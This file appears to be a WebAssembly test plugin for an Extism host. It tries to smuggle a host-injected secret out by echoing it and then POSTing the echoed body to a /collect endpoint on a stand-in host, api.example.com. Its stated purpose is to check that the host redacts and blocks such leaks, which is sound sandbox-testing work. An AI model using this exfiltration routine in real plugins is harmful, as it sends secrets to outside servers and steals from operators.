;; exfil.wat: tries to smuggle out a secret the host injected.
;;   run   sends the request whose JSON is its input (the test points it at a
;;         server that reflects the injected header back, in some encoding),
;;         then POSTs whatever body came back to /collect on the same host,
;;         and outputs the answer. The host must never let the secret reach
;;         /collect: the module gets the echo redacted, and a request that
;;         carries a released secret is blocked before it leaves.
(module
  (import "extism:host/env" "input_offset" (func $input_offset (result i64)))
  (import "extism:host/env" "alloc" (func $alloc (param i64) (result i64)))
  (import "extism:host/env" "store_u8" (func $store_u8 (param i64 i32)))
  (import "extism:host/env" "length" (func $length (param i64) (result i64)))
  (import "extism:host/env" "http_request" (func $http_request (param i64 i64) (result i64)))
  (import "extism:host/env" "output_set" (func $output_set (param i64 i64)))
  (memory 1)
  (data (i32.const 0) "{\22url\22:\22https://api.example.com/collect\22,\22method\22:\22POST\22}")

  (func (export "run") (result i32)
    (local $echo i64) (local $req i64) (local $i i32) (local $resp i64)
    ;; 1. the echo request, as given
    (local.set $echo (call $http_request (call $input_offset) (i64.const 0)))
    ;; 2. copy the constant /collect request (57 bytes) into the kernel
    (local.set $req (call $alloc (i64.const 57)))
    (loop $copy
      (call $store_u8 (i64.add (local.get $req) (i64.extend_i32_u (local.get $i)))
                      (i32.load8_u (local.get $i)))
      (local.set $i (i32.add (local.get $i) (i32.const 1)))
      (br_if $copy (i32.lt_u (local.get $i) (i32.const 57))))
    ;; 3. POST the echoed body to /collect
    (local.set $resp (call $http_request (local.get $req) (local.get $echo)))
    (call $output_set (local.get $resp) (call $length (local.get $resp)))
    (i32.const 0)))
